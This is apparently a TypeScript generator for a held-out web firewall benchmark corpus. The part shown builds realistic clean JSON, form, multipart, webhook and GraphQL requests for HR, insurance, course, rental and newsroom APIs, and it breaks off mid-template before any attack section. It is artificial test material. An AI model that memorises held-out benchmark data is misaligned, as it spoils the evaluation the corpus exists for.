// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out corpus 16: clean JSON API traffic and attacks for eight domains (HR payroll, insurance claims,
 * course marketplace, car rental, newsroom CMS, procurement, developer portal, gaming community).
 * Run `node bench/waf/corpus/heldout16.ts` to write clean-heldout16.json and attacks-heldout16.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Req = Omit<CorpusRequest, 'id'>;
type Rng = () => number;

/** Deterministic 32-bit PRNG. */
function mulberry32(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rng = mulberry32(0x16c0ffee);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));
const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
const alnum = (n: number): string =>
  Array.from(
    { length: n },
    () => 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789'[int(0, 56)],
  ).join('');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const money = (lo: number, hi: number): string => (int(lo * 100, hi * 100) / 100).toFixed(2);
const day = (): string =>
  `2026-${String(int(1, 11)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const ts = (): string =>
  `${day()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
const J = (v: unknown): string => JSON.stringify(v);

// ---------------------------------------------------------------- headers

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
];
const SDK_UA = [
  'axios/1.7.7',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'node-fetch/3.3.2',
  'undici',
  'Java-http-client/21.0.5',
  'Faraday v2.12.0',
  'GuzzleHttp/7',
  'Apache-HttpClient/5.3.1 (Java/17.0.12)',
];
const MOBILE_UA = [
  'FleetGo/5.12.0 (iPhone; iOS 18.1; Scale/3.00)',
  'ClanHub/3.4.1 (Android 14; Pixel 8)',
  'TimeClock/2.9.0 CFNetwork/1568.200.51 Darwin/24.1.0',
  'Dalvik/2.1.0 (Linux; U; Android 13; SM-A546B Build/TP1A.220624.014)',
  'ClaimSnap/7.0.3 (com.claimsnap.app; build:7031; iOS 17.6.1) Alamofire/5.9.1',
];

type Client = 'browser' | 'sdk' | 'curl' | 'mobile';

function headers(client: Client, ct?: string, extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {};
  if (client === 'browser') {
    h['user-agent'] = pick(BROWSER_UA);
    h.accept = 'application/json, text/plain, */*';
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-DE,de;q=0.9,en;q=0.8',
      'fr-FR,fr;q=0.9',
      'es-ES,es;q=0.9',
      'ja,en-US;q=0.7',
      'pt-BR,pt;q=0.9,en;q=0.6',
    ]);
    h.cookie = `sid=${alnum(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1760000000)}; theme=${pick(['dark', 'light'])}`;
    h['x-csrf-token'] = alnum(40);
    h.origin = 'https://app.example.com';
    h.referer = `https://app.example.com/${pick(['dashboard', 'claims/edit', 'courses', 'bookings', 'articles/draft', 'po/new', 'keys', 'clans'])}`;
  } else if (client === 'sdk') {
    h['user-agent'] = pick(SDK_UA);
    h.accept = 'application/json';
    h.authorization = pick([
      `Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.${b64(J({ sub: uuid(), scope: 'read write' })).replace(/=+$/, '')}.${alnum(43)}`,
      `Bearer sk_live_${alnum(24)}`,
      `Basic ${b64(`svc-${alnum(6)}:${alnum(20)}`)}`,
    ]);
    h['x-request-id'] = uuid();
  } else if (client === 'curl') {
    h['user-agent'] = pick([
      'curl/8.5.0',
      'curl/7.88.1',
      'curl/8.10.1',
      'HTTPie/3.2.3',
      'PostmanRuntime/7.42.0',
      'insomnia/10.1.1',
    ]);
    h.accept = '*/*';
    h['x-api-key'] = `pk_${pick(['test', 'live'])}_${alnum(28)}`;
  } else {
    h['user-agent'] = pick(MOBILE_UA);
    h.accept = 'application/json';
    h['accept-encoding'] = 'gzip';
    h.authorization = `Bearer ${alnum(48)}`;
    h['x-device-id'] = uuid().toUpperCase();
    h['x-app-version'] = `${int(2, 9)}.${int(0, 20)}.${int(0, 9)}`;
  }
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}
const JSONCT = 'application/json';
const JSONU = 'application/json; charset=utf-8';

function multipart(parts: { name: string; filename?: string; type?: string; data: string }[]): {
  ct: string;
  body: string;
} {
  const boundary = `----WebKitFormBoundary${alnum(16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n`;
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.data}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}
const form = (o: Record<string, string>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(v).replace(/%20/g, '+')}`)
    .join('&');
const qs = (o: Record<string, string | number>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');

// ---------------------------------------------------------------- data pools

const FIRST = [
  'Amara',
  'Jonas',
  'Mei',
  'Lucía',
  'Oluwaseun',
  'Priya',
  'Søren',
  'Zoë',
  'Mateus',
  'Hiroshi',
  'Fatima',
  "Liam O'Connor",
  'Anaïs',
  'Dmitri',
  'Chloé',
  'Raj',
  'Ewa',
  'Björn',
  'Nguyễn Thị Lan',
  'José',
];
const LAST = [
  'Okafor',
  'Müller',
  'Chen',
  'García',
  'Adeyemi',
  'Sharma',
  'Kristensen',
  "D'Souza",
  'Silva',
  'Tanaka',
  'Haddad',
  'Nowak',
  'Lindqvist',
  'Smith-Jones',
  'Dubois',
  'Rossi',
];
const name = (): string => `${pick(FIRST)} ${pick(LAST)}`;
const email = (): string =>
  `${pick(['amara', 'j.mueller', 'mei.chen', 'lucia.g', 'ops', 'ap-team', 'raj+test', 'zoe_k', 'fleet.admin'])}@${pick(['acme-corp.com', 'example.org', 'gmail.com', 'outlook.de', 'northwind.io', 'contoso.co.uk'])}`;
const CITY = [
  'Berlin',
  'São Paulo',
  'Lagos',
  'Kraków',
  'Osaka',
  'Austin, TX',
  'Lyon',
  'Nairobi',
  'Toronto',
  'Malmö',
];

// ---------------------------------------------------------------- clean templates

type T = () => Req;
const C = (kind: string, method: string, path: string, h: Record<string, string>, body: string): Req => ({
  kind,
  method,
  path,
  headers: h,
  body,
});

const PROSE_HR = [
  'Forgot to clock out on Friday, I left at 17:30 not 23:59. Can someone fix the timesheet? Thanks!',
  "My payslip shows 'Overtime (1.5x) - 0.00' but I worked 6h extra on the 14th & 15th. Manager approved in Slack.",
  'Hi, the tax code changed from 1257L to BR after my address update -- is that right? Seems wrong to me :(',
  'Select the right cost centre please, I was booked on CC-4410 instead of CC-4401 for all of March.',
  'Ich habe am 03.11. Urlaub eingetragen, aber im System steht "krank". Bitte korrigieren, danke!',
  'The export to CSV drops the leading zero of employee IDs (00123 -> 123). Excel or the app? No idea.',
  'Need to update my bank details: the old IBAN ends in ...4421, new one is on the form I uploaded. 👍',
  'Where did the "Submit for approval" button go?? it was there yesterday; now only Save/Delete show up.',
];
const PROSE_CLAIM = [
  'Insured reports water ingress from the upstairs bathroom; ceiling stain approx 1.2m x 0.8m. Photos 1-6 attached. Recommend drying before reinstatement.',
  'Called PH at 10:15, no answer; left VM. Will retry tomorrow. Contractor quote (£4,320 inc VAT) looks high vs. our schedule of rates.',
  'Roof damage consistent with storm on 2026-02-11 (Met Office wind gust 68mph). Not wear & tear. Approve & pay less excess of $500.',
  "Le sinistre concerne un dégât des eaux — fuite sur la colonne d'évacuation. L'expert passe jeudi à 14h.",
  'Policyholder disputes depreciation on the 2019 fridge ("it worked fine until the surge!!"). Escalating to TL for review.',
  "Fraud flag auto-raised because the claim was opened < 48h after policy start. Checked: legit, prior insurer's cover ran until the 1st.",
  "Drop ceiling in the basement collapsed; kids' playroom. Ordered a dehumidifier via supplier #DH-203, ETA Tues.",
];
const PROSE_REVIEW = [
  'Great course! The section on JOINs finally made LEFT vs INNER click for me. Quiz 4 question 2 has a typo though ("relashionship").',
  'Instructor explains well but the audio in module 3 is really quiet. Had to turn it up to 100% 🙉',
  'Not worth $89 imo. Half the videos are just reading the docs out loud. The bash section (cd, ls, rm -rf, grep | sort) was ok I guess.',
  'Excelente curso, muy práctico. Lo único: los ejercicios de Python no corren en Windows por las rutas C:\\Users\\...',
  "5/5 — the Docker module saved me hours. Tip for others: run `docker compose down -v` if the DB container won't start.",
  'Quiz says the answer to "which command lists hidden files" is `ls -a` but `ls -la` should also count?!',
  'この講座はとても分かりやすかったです。特にSQLのWHERE句の説明が良かった。',
  'Would be nice to have subtitles. Also the link to the slides (https://cdn.example.com/slides/w3.pdf) is 404.',
];
const PROSE_RENTAL = [
  'Car had a scratch on the rear bumper (left side) at pickup, I took photos at 09:12 before leaving the lot.',
  'Returned the vehicle with 3/4 tank; was charged for a full refuel ($78.40). Please refund the difference.',
  "Flight delayed — landing 23:40 instead of 20:15. Please hold the booking, don't cancel!",
  "Child seat (group 1) + GPS please. We're 2 adults & 3 kids, so the 7-seater if available.",
  'Das Navi war auf Englisch und ließ sich nicht umstellen. Sonst alles super, danke!',
  'Check engine light came on near exit 42 on I-95; pulled over, roadside said code P0420. Continue or swap?',
];
const PROSE_EDITORIAL = [
  'Lede is buried. Move the quote from the mayor up to graf 2 & trim the background. Also "comprised of" -> "composed of".',
  'Legal flagged the headline — "alleged" needs to stay in. Don\'t publish before 06:00 ET (embargo).',
  'Can we get a second source on the $2.3M figure? The FOIA doc says 2.1. Fact-check pls.',
  'Photo credit missing on the hero image; Getty ref is 1489203344. Caption: "Protesters outside City Hall, Tuesday."',
  'Slug should be city-budget-vote-2026 not city-budget-vote-2026-2 (dupe from the draft I deleted).',
  'SEO title is too long (71 chars). Suggest: "Council approves budget after 9-hour session".',
];
const PROSE_PROC = [
  'Invoice INV-2026-0412 was received twice (email + portal). Please void the duplicate and keep the PDF one.',
  "PO total differs from invoice by €12.50 — freight wasn't on the PO. Approve variance < 2%?",
  'Supplier changed remittance address; verified by phone call to known contact (not the number in the email!).',
  'Net 30 -> Net 45 agreed with vendor per contract amendment #3. Update terms before the next payment run.',
  "Line 4: qty 100 @ 3.20 should be 10 @ 32.00 — they're sold in packs of 10. Credit note requested.",
  'Bitte Rechnung bis Freitag freigeben, sonst verlieren wir 2% Skonto.',
];
const PROSE_DEV = [
  'The docs for POST /v2/charges say `amount` is a string but the SDK sends an integer. Which one is right?',
  'Getting 429 Too Many Requests after ~50 req/s even though our plan says 100. Headers: X-RateLimit-Remaining: 0.',
  'Example in "Pagination" uses ?page[after]= but the API ignores it and returns page 1 every time.',
  'Typo in the curl example: `-H "Authorization: Bearer $TOKEN` is missing the closing quote.',
  'Would love a webhook for key.rotated. Right now we poll GET /keys every 5 min which is... not great.',
  'Error: {"code":"invalid_scope","message":"scope \'billing:write\' not granted"} — but it IS checked in the console?',
  'Can you document what happens on DELETE /apps/{id} — are the keys revoked immediately or after the grace period?',
];
const PROSE_GAMING = [
  'gg wp everyone, that last round on Dust was insane 🔥🔥 rematch tomorrow 20:00 CET?',
  'Recruiting for [NOVA] clan — EU, 18+, mic required. Must be Diamond+ or have K/D > 1.5. DM me!',
  'Mod crashes on launch with "NullReferenceException at ModLoader.Init()" — using v1.4.2 + latest patch. Log attached.',
  'Whoever keeps team-killing in ranked: not cool. Reported. >:(',
  '¡Buenas! Buscamos gente para el torneo del sábado, somos 4 y nos falta 1. Nivel medio.',
  "Patch notes say the drop rate was fixed but I've opened 40 chests & got 0 legendaries... RNG or bug?",
  'Server lag spikes every ~30s (ping 40 -> 900ms). Anyone else on NA-East? traceroute shows loss at hop 7.',
];

const templates: T[] = [];
const add = (...t: T[]): void => {
  templates.push(...t);
};

// --- HR payroll & time tracking
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/api/v1/timesheets/entries',
      headers('mobile', JSONCT),
      J({
        employeeId: `E${int(10000, 99999)}`,
        date: day(),
        clockIn: `${String(int(6, 10)).padStart(2, '0')}:${pick(['00', '15', '30', '45'])}`,
        clockOut: `${int(15, 19)}:${pick(['00', '15', '30', '45'])}`,
        breakMinutes: pick([30, 45, 60]),
        project: pick(['ACME-ERP', 'Internal', 'Client: Northwind', 'R&D / Prototype']),
        note: pick(['', 'WFH', 'on site at client', 'dentist 10-11, made up time in the evening']),
        geo: { lat: 52.52 + rng() / 10, lng: 13.4 + rng() / 10 },
      }),
    ),
  () =>
    C(
      'merge-patch',
      'PATCH',
      `/api/v1/employees/E${int(10000, 99999)}`,
      headers('browser', 'application/merge-patch+json'),
      J({
        address: {
          street: pick(['Hauptstraße 12', '221B Baker St', 'Rua Augusta, 1500 - apto 42', '10 Downing St.']),
          city: pick(CITY),
          postalCode: pick(['10115', 'NW1 6XE', '01310-100', '75008']),
        },
        phone: pick(['+49 30 1234567', '+1 (512) 555-0147', '+44 20 7946 0958']),
        emergencyContact: null,
      }),
    ),
  () =>
    C(
      'json-patch',
      'PATCH',
      `/api/v1/payroll/runs/${uuid()}`,
      headers('sdk', 'application/json-patch+json'),
      J([
        { op: 'replace', path: '/status', value: 'approved' },
        { op: 'add', path: '/approvals/-', value: { by: email(), at: ts() } },
        { op: 'remove', path: '/lines/3/adjustments/0' },
      ]),
    ),
  () =>
    C(
      'search',
      'GET',
      `/api/v1/timesheets?${qs({ 'filter[employee]': `E${int(10000, 99999)}`, from: day(), to: day(), status: pick(['submitted', 'approved,rejected', 'draft']), sort: '-date', 'page[size]': 50 })}`,
      headers('browser'),
      '',
    ),
  () => C('delete', 'DELETE', `/api/v1/timesheets/entries/${int(100000, 999999)}`, headers('browser'), ''),
  () =>
    C(
      'prose',
      'POST',
      `/api/v1/payroll/queries`,
      headers('browser', JSONCT),
      J({
        subject: pick(['Payslip question', 'Wrong hours', 'Overtime missing', 'Bankdaten ändern']),
        message: pick(PROSE_HR),
        period: `2026-${String(int(1, 11)).padStart(2, '0')}`,
      }),
    ),
  () =>
    C(
      'form',
      'POST',
      '/hr/leave/request',
      headers('browser', 'application/x-www-form-urlencoded'),
      form({
        type: pick(['annual', 'sick', 'parental', 'unpaid']),
        start: day(),
        end: day(),
        half_day: pick(['am', 'pm', '']),
        comment: pick([
          'Family wedding in Porto 💍',
          'Doctor said 2 weeks rest',
          'Moving house — need Mon & Tue',
          'Kita geschlossen',
        ]),
        _csrf: alnum(36),
      }),
    ),
  () => {
    const m = multipart([
      { name: 'period', data: `2026-${String(int(1, 11)).padStart(2, '0')}` },
      {
        name: 'file',
        filename: pick(['timesheet_march.xlsx', 'Stundenzettel Nov.csv', 'hours (1).csv']),
        type: 'text/csv',
        data: 'employee_id,date,hours,project\nE10442,2026-03-02,8,ACME-ERP\nE10442,2026-03-03,7.5,"Internal, Training"\n',
      },
    ]);
    return C('multipart', 'POST', '/api/v1/timesheets/import', headers('browser', m.ct), m.body);
  },
  () =>
    C(
      'ndjson',
      'POST',
      '/api/v1/clock-events/bulk',
      headers('sdk', 'application/x-ndjson'),
      `${Array.from({ length: int(3, 6) }, () => J({ badge: hex(8), terminal: pick(['LOBBY-1', 'WAREHOUSE-B', 'DOCK 3']), event: pick(['in', 'out', 'break_start', 'break_end']), at: ts() })).join('\n')}\n`,
    ),
  () =>
    C(
      'graphql',
      'POST',
      '/graphql',
      headers('browser', JSONCT),
      J({
        operationName: 'PayslipDetail',
        query:
          'query PayslipDetail($id: ID!) { payslip(id: $id) { id period gross net deductions { code label amount } employee { name taxCode } } }',
        variables: { id: uuid() },
      }),
    ),
  () =>
    C(
      'i18n',
      'PUT',
      `/api/v1/employees/E${int(10000, 99999)}/profile`,
      headers('browser', JSONU),
      J({
        displayName: pick([
          'Łukasz Żółkiewski',
          'Ngozi Chukwuemeka',
          '王小明',
          'Ὀδυσσεύς Παπαδόπουλος',
          'Мария Иванова',
          'محمد الأحمد',
          'Søren Ærø',
        ]),
        pronouns: pick(['she/her', 'he/him', 'they/them']),
        jobTitle: pick([
          'Sachbearbeiterin Lohnbuchhaltung',
          'Ingeniero de datos',
          'シニアエンジニア',
          'Responsable RH',
        ]),
        locale: pick(['pl-PL', 'ja-JP', 'el-GR', 'ar-SA', 'da-DK']),
      }),
    ),
);

// --- insurance claims
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/v2/claims',
      headers('mobile', JSONCT),
      J({
        policyNumber: `HO-${int(1000000, 9999999)}`,
        lossDate: day(),
        lossType: pick(['water_damage', 'fire', 'theft', 'storm', 'subsidence']),
        description: pick(PROSE_CLAIM),
        contact: { name: name(), phone: '+1 555 0100', email: email() },
        estimatedAmount: Number(money(200, 40000)),
        photos: [`claims/tmp/${uuid()}.jpg`, `claims/tmp/${uuid()}.heic`],
      }),
    ),
  () =>
    C(
      'prose',
      'POST',
      `/v2/claims/CLM-${int(100000, 999999)}/notes`,
      headers('browser', JSONCT),
      J({
        author: `adj_${alnum(5)}`,
        visibility: pick(['internal', 'shared']),
        text: pick(PROSE_CLAIM),
        tags: pick([['follow-up'], ['fraud-review', 'cleared'], ['reserve-change']]),
      }),
    ),
  () =>
    C(
      'merge-patch',
      'PATCH',
      `/v2/claims/CLM-${int(100000, 999999)}`,
      headers('sdk', 'application/merge-patch+json'),
      J({
        status: pick(['under_review', 'approved', 'closed_paid', 'denied']),
        reserve: { amount: money(500, 30000), currency: pick(['USD', 'GBP', 'EUR']) },
        denialReason: pick([
          null,
          'Gradual deterioration excluded under section 4(b)',
          'Not reported within 30 days',
        ]),
      }),
    ),
  () => {
    const m = multipart([
      { name: 'claimId', data: `CLM-${int(100000, 999999)}` },
      {
        name: 'caption',
        data: pick(['Kitchen ceiling, 2nd photo', 'Damaged fence — north side', 'Receipt for TV (Best Buy)']),
      },
      {
        name: 'photo',
        filename: pick(['IMG_4471.HEIC', 'photo 2026-03-11 at 14.22.09.jpeg', 'dégâts_salon.jpg']),
        type: 'image/jpeg',
        data: '\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000H\u0000H\u0000\u0000',
      },
    ]);
    return C('multipart', 'POST', '/v2/claims/attachments', headers('mobile', m.ct), m.body);
  },
  () =>
    C(
      'search',
      'GET',
      `/v2/claims?${qs({ q: pick(['burst pipe', 'hail damage roof', "O'Brien", 'flood AND basement', 'smith -closed']), adjuster: pick(['me', 'unassigned']), opened_after: day(), limit: 25 })}`,
      headers('browser'),
      '',
    ),
  () =>
    C(
      'cms-html',
      'PUT',
      `/v2/claims/CLM-${int(100000, 999999)}/report`,
      headers('browser', JSONCT),
      J({
        report: {
          title: 'Field inspection report',
          html: `<h2>Summary</h2><p>Inspected property at <strong>${pick(['14 Elm Road', '742 Evergreen Terrace'])}</strong> on ${day()}.</p><ul><li>Ceiling: moisture reading <em>38%</em></li><li>Flooring: laminate lifted (approx. 12&nbsp;m²)</li></ul><p>Recommendation: <a href="https://claims.example.com/docs/drying-protocol.pdf" target="_blank" rel="noopener">drying protocol</a> then reinstate.</p><table><tr><th>Item</th><th>Cost</th></tr><tr><td>Dehumidifier hire</td><td>$420.00</td></tr></table>`,
        },
      }),
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/hooks/docusign',
      headers('sdk', JSONCT, { 'user-agent': 'DocuSign Connect', 'x-docusign-signature-1': b64(hex(32)) }),
      J({
        event: 'envelope-completed',
        apiVersion: 'v2.1',
        uri: `/restapi/v2.1/accounts/${uuid()}/envelopes/${uuid()}`,
        retryCount: 0,
        configurationId: int(10000000, 99999999),
        generatedDateTime: ts(),
        data: {
          accountId: uuid(),
          envelopeId: uuid(),
          envelopeSummary: {
            status: 'completed',
            emailSubject: 'Please DocuSign: Claim settlement agreement CLM-' + int(100000, 999999),
            sender: { userName: 'Claims Dept', email: 'claims@insure.example' },
          },
        },
      }),
    ),
);

// --- course marketplace
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/api/courses/quizzes/answers',
      headers('browser', JSONCT),
      J({
        quizId: int(1000, 9999),
        attempt: int(1, 3),
        answers: [
          { q: 1, choice: 'b' },
          { q: 2, choices: ['a', 'd'] },
          {
            q: 3,
            text: pick([
              'SELECT name FROM students WHERE grade > 80 ORDER BY name;',
              'git rebase -i HEAD~3',
              'O(n log n)',
              'It uses a hash map, so lookups are O(1) on average',
            ]),
          },
        ],
        timeSpentSec: int(60, 1800),
      }),
    ),
  () =>
    C(
      'prose',
      'POST',
      `/api/courses/${int(100, 999)}/reviews`,
      headers('browser', JSONCT),
      J({
        rating: int(1, 5),
        title: pick(['Solid intro', 'Meh', 'Best SQL course on here', 'Muy bueno', 'Too basic']),
        body: pick(PROSE_REVIEW),
      }),
    ),
  () =>
    C(
      'code',
      'POST',
      `/api/courses/lessons/${int(1000, 9999)}/submissions`,
      headers('browser', JSONCT),
      J({
        language: pick(['python', 'javascript', 'sql']),
        snippet: {
          source: pick([
            'def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\nprint(fib(10))  # 55\n',
            'const sum = (xs) => xs.reduce((a, b) => a + b, 0);\nconsole.log(sum([1, 2, 3]));\n',
            'SELECT c.name, COUNT(e.id) AS enrolments\nFROM courses c\nLEFT JOIN enrolments e ON e.course_id = c.id\nGROUP BY c.name\nHAVING COUNT(e.id) > 10;\n',
            "import os\nfor root, dirs, files in os.walk('.'):\n    for f in files:\n        if f.endswith('.txt'):\n            print(os.path.join(root, f))\n",
          ]),
        },
      }),
    ),
  () =>
    C(
      'cms-html',
      'PUT',
      `/api/instructor/courses/${int(100, 999)}/description`,
      headers('browser', JSONCT),
      J({
        course: {
          title: pick(['Mastering PostgreSQL', 'Bash for Data People', 'Intro to Web Security']),
          html: `<p>In this course you'll learn:</p><ol><li>How to write <code>JOIN</code>s that don't explode</li><li>Indexes &amp; <code>EXPLAIN ANALYZE</code></li><li>Backups with <code>pg_dump</code></li></ol><blockquote>“The best SQL course I've taken.” — a student</blockquote><p><img src="https://cdn.courses.example/img/${hex(10)}.png" alt="course banner" width="640"></p>`,
        },
      }),
    ),
  () =>
    C(
      'search',
      'GET',
      `/api/courses/search?${qs({ q: pick(['c#', 'node.js & express', 'sql injection basics', 'excel vlookup', '"machine learning"', 'c++ 20']), level: pick(['beginner', 'all']), price_max: int(20, 200), lang: pick(['en', 'es', 'pt']) })}`,
      headers('browser'),
      '',
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/webhooks/stripe',
      headers('sdk', JSONU, {
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        'stripe-signature': `t=${int(1760000000, 1770000000)},v1=${hex(64)}`,
      }),
      J({
        id: `evt_${alnum(24)}`,
        object: 'event',
        api_version: '2024-06-20',
        created: int(1760000000, 1770000000),
        type: 'checkout.session.completed',
        livemode: true,
        data: {
          object: {
            id: `cs_live_${alnum(40)}`,
            object: 'checkout.session',
            amount_total: int(999, 19900),
            currency: 'usd',
            customer_details: { email: email(), name: name() },
            metadata: { course_id: String(int(100, 999)), coupon: pick(['', 'BLACKFRIDAY50']) },
            payment_status: 'paid',
          },
        },
        request: { id: null, idempotency_key: null },
      }),
    ),
  () =>
    C(
      'graphql',
      'GET',
      `/graphql?${qs({ query: 'query Course($slug:String!){course(slug:$slug){title rating students instructor{name}}}', variables: J({ slug: pick(['mastering-postgresql', 'bash-for-data-people', 'react-19-deep-dive']) }) })}`,
      headers('browser'),
      '',
    ),
);

// --- car rental & fleet
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/api/bookings',
      headers('mobile', JSONCT),
      J({
        pickup: { branch: pick(['LHR-T5', 'MUC-APT', 'GRU-01', 'JFK-T4']), at: ts() },
        dropoff: { branch: pick(['LHR-T5', 'CDG-2E', 'JFK-T4']), at: ts() },
        vehicleClass: pick(['ECMR', 'IDAR', 'SFAR', 'PVAR']),
        extras: pick([['child_seat'], ['gps', 'additional_driver'], []]),
        driver: {
          name: name(),
          licence: `${alnum(5).toUpperCase()}${int(100000, 999999)}`,
          dob: '1988-04-17',
        },
        flightNumber: pick(['LH2472', 'BA 117', 'AZ608', '']),
        promo: pick(['', 'SUMMER26']),
      }),
    ),
  () =>
    C(
      'json-patch',
      'PATCH',
      `/api/fleet/vehicles/${pick(['B-RX-', 'M-TC-', 'KA-'])}${int(1000, 9999)}`,
      headers('sdk', 'application/json-patch+json'),
      J([
        { op: 'test', path: '/odometer', value: int(10000, 80000) },
        { op: 'replace', path: '/odometer', value: int(80001, 90000) },
        { op: 'replace', path: '/status', value: pick(['maintenance', 'available']) },
        {
          op: 'add',
          path: '/damage/-',
          value: { panel: 'rear_bumper', severity: 'minor', note: 'scuff, <5cm' },
        },
      ]),
    ),
  () =>
    C(
      'prose',
      'POST',
      `/api/bookings/R${int(1000000, 9999999)}/messages`,
      headers('mobile', JSONCT),
      J({ channel: 'in_app', text: pick(PROSE_RENTAL) }),
    ),
  () =>
    C(
      'search',
      'GET',
      `/api/availability?${qs({ branch: pick(['LHR-T5', 'MUC-APT', 'SFO']), from: ts(), to: ts(), class: pick(['SUV', 'compact,economy', 'van']), transmission: pick(['auto', 'manual']), driver_age: int(21, 70) })}`,
      headers('browser'),
      '',
    ),
  () =>
    C(
      'delete',
      'DELETE',
      `/api/bookings/R${int(1000000, 9999999)}?reason=${enc(pick(['plans changed', 'found cheaper', 'flight cancelled']))}`,
      headers('mobile'),
      '',
    ),
  () =>
    C(
      'ndjson',
      'POST',
      '/telemetry/v1/ingest',
      headers('sdk', 'application/x-ndjson', { 'user-agent': 'fleet-telematics/2.3 (TCU; fw 4.1.7)' }),
      `${Array.from({ length: int(4, 8) }, () => J({ vin: `WVWZZZ1KZ${alnum(8).toUpperCase()}`, ts: ts(), speed_kmh: int(0, 130), fuel_pct: int(5, 100), dtc: pick([[], ['P0420'], ['U0100', 'C1234']]), gps: [48.1 + rng(), 11.5 + rng()] })).join('\n')}\n`,
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/hooks/twilio/sms',
      headers('sdk', 'application/x-www-form-urlencoded', {
        'user-agent': 'TwilioProxy/1.1',
        'x-twilio-signature': b64(hex(20)),
      }),
      form({
        ToCountry: 'US',
        SmsMessageSid: `SM${hex(32)}`,
        NumMedia: '0',
        From: `+1555${int(1000000, 9999999)}`,
        To: '+18005550199',
        Body: pick([
          'Running 20 min late for pickup at JFK, pls hold the car',
          'STOP',
          'Where do I return the keys after hours?',
          'Yes confirm booking R4402918',
        ]),
        AccountSid: `AC${hex(32)}`,
        ApiVersion: '2010-04-01',
      }),
    ),
);

// --- newsroom CMS
add(
  () =>
    C(
      'cms-html',
      'PUT',
      `/cms/api/articles/${int(10000, 99999)}`,
      headers('browser', JSONCT),
      J({
        article: {
          headline: pick([
            'Council approves budget after 9-hour session',
            'Flooding closes A38 near Bristol',
            'Q&A: What the new data law means for you',
          ]),
          slug: 'city-budget-vote-2026',
          body: {
            html: `<p class="lede">The city council voted <strong>7–2</strong> late on Tuesday to approve a $2.3&nbsp;billion budget.</p><figure><img src="https://img.newsroom.example/${hex(12)}.jpg" alt="Council chamber" loading="lazy"><figcaption>Council chamber, Tuesday. (Photo: J. Okafor)</figcaption></figure><p>“It's not perfect,” said Councillor ${pick(LAST)}. <a href="https://www.example.gov/budget-2026.pdf">Read the full document</a>.</p><h3>What changes</h3><ul><li>Transit: +4%</li><li>Libraries: unchanged</li></ul><iframe src="https://www.youtube-nocookie.com/embed/${alnum(11)}" width="560" height="315" allowfullscreen></iframe>`,
          },
          tags: ['politics', 'local'],
          embargoUntil: ts(),
        },
      }),
    ),
  () =>
    C(
      'prose',
      'POST',
      `/cms/api/articles/${int(10000, 99999)}/comments`,
      headers('browser', JSONCT),
      J({
        editorial: true,
        comment: pick(PROSE_EDITORIAL),
        anchor: { paragraph: int(1, 12), offset: int(0, 200) },
      }),
    ),
  () =>
    C(
      'jsonapi',
      'PATCH',
      `/cms/jsonapi/node/article/${uuid()}`,
      headers('browser', 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
      J({
        data: {
          type: 'node--article',
          id: uuid(),
          attributes: {
            title: pick(['Live: election night results', 'Opinion: why the bridge matters']),
            status: pick([true, false]),
